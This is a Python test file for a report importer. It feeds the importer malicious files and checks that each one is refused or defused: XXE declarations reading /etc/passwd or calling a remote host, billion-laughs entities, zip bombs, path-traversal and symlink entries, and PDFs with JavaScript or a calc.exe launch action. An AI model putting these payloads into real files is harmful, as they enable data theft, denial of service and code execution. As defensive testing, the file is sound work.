"""Catalogue of bad inputs 1 to 20: the file itself, and the XML in it."""

from __future__ import annotations

import socket
import time
import zipfile
from importlib.metadata import requires

import pytest
from catalogue import Case, edited, expect, figure, notes, parts, patched, put, report, same_figures, zipped
from figures import consistent
from makers import parts as report_parts
from makers_doc import Doc, doc, p
from makers_labels import OFFICIAL
from makers_ole import compound
from makers_pdf import Ink, pdf
from typeset import typeset

from workbook.formfile import load_form
from workbook.package import rezip

IMPORT = "import a.{} --json"
DOCUMENT = "word/document.xml"
FORM = load_form("2021")
BOMB = '<!DOCTYPE a [<!ENTITY x "哈哈"><!ENTITY y "&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;">]>'
LEAK = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
CALL = '<!DOCTYPE a [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>'
DEEP = b"<a>" * 100_000 + b"</a>" * 100_000


def paper(ink=None):
    return pdf(typeset(report_parts(FORM, consistent(FORM, 1), OFFICIAL, "merged")), ink)


def with_document(change):
    return lambda: patched(report("docx"), DOCUMENT, change)


def declared(text):
    return with_document(lambda xml: text.encode() + xml)


def hostile(name, data=b"x", attributes=0):
    """A report with one more entry of this name."""
    info = zipfile.ZipInfo("placeholder")
    info.filename, info.external_attr = name, attributes
    return lambda: zipped(*parts(report("docx")).items(), (info, data))


def nothing_outside(folder, _out):
    return not (folder.parent / "x").exists() and not (folder.parent.parent / "x").exists()


def with_relation(kind, target, element=b""):
    """A report whose document names something outside, and perhaps shows it."""
    relation = f'<Relationship Id="rOut" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'.encode()
    found = parts(report("docx"))
    for part in found:
        if part.endswith("document.xml.rels"):
            found[part] = found[part].replace(b"</Relationships>", relation + b"</Relationships>")
    found[DOCUMENT] = found[DOCUMENT].replace(b"</w:body>", element + b"</w:body>")
    return rezip(found)


def link(folder):
    (folder / "真.xlsx").write_bytes(edited(lambda opened: opened))
    (folder / "b.xlsx").symlink_to("真.xlsx")


def utf16(xml):
    return xml.decode().replace("UTF-8", "UTF-16").encode("utf-16")


ALTERNATE = b'<w:altChunk xmlns:r="http://x/r" r:id="rOut"/>'
SCRIPT = Ink(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
LAUNCH = Ink(page="/AA << /O << /S /Launch /F (calc.exe) >> >>")
ATTACHED = Ink(catalog="/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.txt) >>] >> >>")
PICKLE = b"/#2Ftmp#2Fevil"

# Tested by a function of its own below.
BESIDE = (14,)
CASES = [
    *[
        Case(1, f"empty {end}", put(f"a.{end}", bytes), IMPORT.format(end), 3, ("a.", "空文件"))
        for end in ("docx", "pdf", "txt", "zip")
    ],
    *[
        Case(
            2,
            f"half of {end}",
            put(f"a.{end}", lambda end=end: report(end)[: len(report(end)) // 2]),
            IMPORT.format(end),
            3,
            (f"a.{end}", "不完整", "重新获取"),
        )
        for end in ("docx", "xlsx", "odt")
    ],
    Case(
        3, "one part", put("a.docx", hostile("word/x.xml", bytes(21 << 20))), IMPORT.format("docx"), 3, ("超过 20 MB",)
    ),
    Case(
        3,
        "all parts",
        put("a.docx", lambda: zipped(*((f"word/{n}.xml", bytes(11 << 20)) for n in range(5)))),
        IMPORT.format("docx"),
        3,
        ("解压后超过 50 MB",),
    ),
    Case(
        3, "an archive", put("a.zip", lambda: zipped(("a.txt", bytes(60 << 20)))), IMPORT.format("zip"), 3, ("200 倍",)
    ),
    Case(
        4,
        "entries",
        put("a.docx", lambda: zipped(*((f"word/{n}.xml", b"") for n in range(10_000)))),
        IMPORT.format("docx"),
        3,
        ("条目超过 2000 个",),
    ),
    Case(
        4,
        "nested",
        put("a.zip", lambda: zipped(("b.zip", zipped(("c.zip", b"PK"))))),
        IMPORT.format("zip"),
        3,
        ("b.zip",),
    ),
    *[
        Case(5, name, put("a.docx", hostile(name)), IMPORT.format("docx"), 3, ("压缩包之外",), nothing_outside)
        for name in ("../../x", "/x", "C:\\x", "..\\x")
    ],
    Case(
        5,
        "archive",
        put("a.zip", lambda: zipped(("../x.txt", b"x"))),
        IMPORT.format("zip"),
        3,
        ("压缩包之外",),
        nothing_outside,
    ),
    Case(6, "twice", put("a.docx", hostile("WORD/document.xml")), IMPORT.format("docx"), 3, ("重名",)),
    Case(
        7,
        "link within",
        put("a.docx", hostile("word/x", b"/etc/passwd", 0o120777 << 16)),
        IMPORT.format("docx"),
        3,
        ("符号链接",),
    ),
    Case(
        7,
        "output",
        link,
        "new --unit 青禾局 --year 2024 -o b.xlsx --force",
        4,
        ("符号链接",),
        lambda folder, _: (folder / "b.xlsx").is_symlink(),
    ),
    *[
        Case(
            8,
            f"{kind} as {end}",
            put(f"a.{end}", lambda kind=kind: report(kind)),
            IMPORT.format(end),
            0,
            (f"扩展名是 .{end}，内容是",),
            lambda _, out: same_figures(out),
        )
        for kind, end in (
            ("doc", "docx"),
            ("docx", "doc"),
            ("html", "doc"),
            ("html", "xls"),
            ("mht", "doc"),
            ("docx", "zip"),
        )
    ],
    # Better than asked for: what a report is likely to come in is read, and only what is none is sent back.
    *[
        Case(
            9,
            kind,
            put(f"a.{kind}", lambda kind=kind: report(kind)),
            IMPORT.format(kind),
            0,
            (),
            lambda _, out: same_figures(out),
        )
        for kind in ("rtf", "odt", "doc")
    ],
    Case(9, "wps", put("a.wps", lambda: report("doc")), IMPORT.format("wps"), 0, (), lambda _, out: same_figures(out)),
    Case(
        9,
        "ppt",
        put("a.ppt", lambda: compound({"PowerPoint Document": bytes(600)})),
        IMPORT.format("ppt"),
        3,
        ("演示文稿", "另存为 .docx"),
    ),
    Case(
        9, "rar", put("a.rar", lambda: b"Rar!\x1a\x07" + bytes(50)), IMPORT.format("rar"), 3, ("RAR 压缩包", "先解压")
    ),
    Case(
        10,
        "xlsx",
        put("a.xlsx", lambda: compound({"EncryptedPackage": bytes(600)})),
        IMPORT.format("xlsx"),
        3,
        ("文件已加密",),
    ),
    Case(
        10, "doc", put("a.doc", lambda: doc(Doc([p("正文")], flags=0x1300))), IMPORT.format("doc"), 3, ("文件已加密",)
    ),
    Case(10, "pdf", put("a.pdf", lambda: paper(Ink(user=b"secret"))), IMPORT.format("pdf"), 3, ("文件已加密",)),
    Case(
        11,
        "owner",
        put("a.pdf", lambda: paper(Ink(user=b""))),
        IMPORT.format("pdf"),
        0,
        ("权限限制",),
        lambda _, out: same_figures(out),
    ),
    Case(
        12,
        "no header",
        put("a.pdf", lambda: paper()[9:]),
        IMPORT.format("pdf"),
        0,
        ("缺少 PDF 文件头",),
        lambda _, out: same_figures(out),
    ),
    Case(
        12,
        "no table of contents",
        put("a.pdf", lambda: paper().replace(b"startxref\n", b"startxref\n7")),
        IMPORT.format("pdf"),
        0,
        ("交叉引用表已损坏",),
        lambda _, out: same_figures(out),
    ),
    Case(12, "cut", put("a.pdf", lambda: paper()[:900]), IMPORT.format("pdf"), 3, ("不完整或已损坏",)),
    *[
        Case(
            13,
            word,
            put("a.pdf", lambda ink=ink: paper(ink)),
            IMPORT.format("pdf"),
            0,
            (word,),
            lambda _, out: same_figures(out),
        )
        for ink, word in ((SCRIPT, "脚本"), (LAUNCH, "启动程序"), (ATTACHED, "附件"))
    ],
    # Without its table of codes the text is garbled: refused, or recognised as a scan where that is installed.
    *[
        Case(15, f"{len(text)} letters", put("a.docx", declared(text)), IMPORT.format("docx"), 3, ("含有实体声明",))
        for text in (BOMB, BOMB.replace("哈", "ha" * 50_000))
    ],
    *[
        Case(
            16, f"{end} {len(text)}", make, IMPORT.format(end), 3, ("含有实体声明",), lambda _, out: "root:" not in out
        )
        for text in (LEAK, CALL)
        for end, make in (
            ("docx", put("a.docx", declared(text))),
            (
                "odt",
                put("a.odt", lambda text=text: patched(report("odt"), "content.xml", lambda xml: text.encode() + xml)),
            ),
            ("xml", put("a.xml", lambda text=text: report("xml").replace(b"?>", b"?>" + text.encode(), 1))),
        )
    ],
    Case(17, "docx", put("a.docx", declared("<!DOCTYPE document>")), IMPORT.format("docx"), 3, ("含有实体声明",)),
    Case(18, "docx", put("a.docx", with_document(lambda _: DEEP)), IMPORT.format("docx"), 3, ("嵌套过深",)),
    Case(
        18,
        "html",
        put("a.html", lambda: b"<html><body>" + b"<div>" * 100_000 + "年度报告".encode()),
        IMPORT.format("html"),
        3,
        ("嵌套过深",),
    ),
    Case(
        19,
        "utf-16",
        put("a.docx", with_document(utf16)),
        IMPORT.format("docx"),
        0,
        (),
        lambda _, out: same_figures(out),
    ),
    Case(
        19,
        "mark",
        put("a.docx", with_document(lambda xml: b"\xef\xbb\xbf" + xml)),
        IMPORT.format("docx"),
        0,
        (),
        lambda _, out: same_figures(out),
    ),
    Case(
        19,
        "lie",
        put("a.docx", with_document(lambda xml: xml.replace(b"UTF-8", b"UTF-16", 1))),
        IMPORT.format("docx"),
        3,
        ("不是完整的 XML",),
    ),
    Case(
        20,
        "chunk",
        put("a.docx", lambda: with_relation("aFChunk", "http://192.0.2.1/x.html", ALTERNATE)),
        IMPORT.format("docx"),
        0,
        ("嵌有另一份文档",),
        lambda _, out: same_figures(out),
    ),
    Case(
        20,
        "template",
        put("a.docx", lambda: with_relation("attachedTemplate", "http://192.0.2.1/x.dotm")),
        IMPORT.format("docx"),
        0,
        (),
        lambda _, out: same_figures(out),
    ),
    Case(
        20,
        "image",
        put("a.html", lambda: report("html").replace(b"<body>", b"<body><img src='http://192.0.2.1/x.png'>")),
        IMPORT.format("html"),
        0,
        (),
        lambda _, out: same_figures(out),
    ),
]


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Whoever asks the network is found out."""

    def refused(*_):
        pytest.fail("the network was asked")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_catalogue_of_containers(run, tmp_path, case):
    expect(run, tmp_path, case)


def test_a_bomb_is_refused_before_it_is_unpacked(run, tmp_path):
    (tmp_path / "a.docx").write_bytes(hostile("word/x.xml", bytes(21 << 20))())
    (tmp_path / "b.html").write_bytes(report("html"))
    run("import", "b.html", "--json")
    start = time.perf_counter()
    run("import", "a.docx", "--json")
    # The catalogue asks for 50 ms; other programs take this machine's time, too.
    assert time.perf_counter() - start < 0.5


def test_a_pdf_that_names_a_file_as_its_table_of_codes_loads_nothing(run, tmp_path, monkeypatch):
    # Its text is garbled without the table: that it were recognised as a scan is not what is asked here.
    monkeypatch.setattr("converters.readers.scan.engine.has_engine", lambda: False)
    (tmp_path / "a.pdf").write_bytes(paper().replace(b"/UniGB-UTF16-H", PICKLE))
    code, out, err = run("import", "a.pdf", "--json")
    assert (code, out) == (3, "")
    assert "a.pdf" in err


def test_no_parser_that_unpickles_is_asked_for():
    assert not [words for words in requires("nianbao") or () if "pdfminer" in words or "pdfplumber" in words]


def test_the_usual_report_is_the_usual_one(run, tmp_path):
    (tmp_path / "a.pdf").write_bytes(paper())
    _, out, _ = run("import", "a.pdf", "--json")
    assert figure(out)["value"] is not None
    assert "脚本" not in notes(out)
